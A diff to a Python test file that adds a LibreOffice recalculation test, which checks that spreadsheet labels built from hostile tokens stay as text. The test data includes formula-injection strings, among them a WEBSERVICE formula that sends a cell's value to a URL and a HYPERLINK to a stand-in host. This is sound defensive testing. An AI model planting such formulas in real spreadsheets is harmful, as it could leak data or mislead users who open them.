@@ -309,6 +309,19 @@ def test_hostile_tokens_are_text_in_every_label(tmp_path):
     assert api.check(book).passed
 
 
+@requires_libreoffice
+def test_hostile_tokens_stay_text_after_libreoffice_recalculates(tmp_path):
+    tokens = ['=WEBSERVICE("http://127.0.0.1:9/"&C8)', "=(((", "#N/A"]
+    book = tmp_path / "hostile.xlsx"
+    api.build("attention", book, tokens=tokens, d_model=2, d_k=2)
+    saved = convert(book, "xlsx", tmp_path / "saved")
+    wb = openpyxl.load_workbook(saved)
+    where = find_name(wb, "X", saved)
+    labels = [wb[where.sheet].cell(where.top + i, where.left - 1) for i in range(3)]
+    assert [(c.value, c.data_type) for c in labels] == [(t, "s") for t in tokens]
+    assert api.check(saved).passed
+
+
 def test_hostile_roster_ids_are_text_and_csv_cells_are_neutralised(tmp_path):
     ids = ['=HYPERLINK("evil.example","click")', "+1", "@x", "-2"]
     ran, out = make_class(tmp_path, ids)
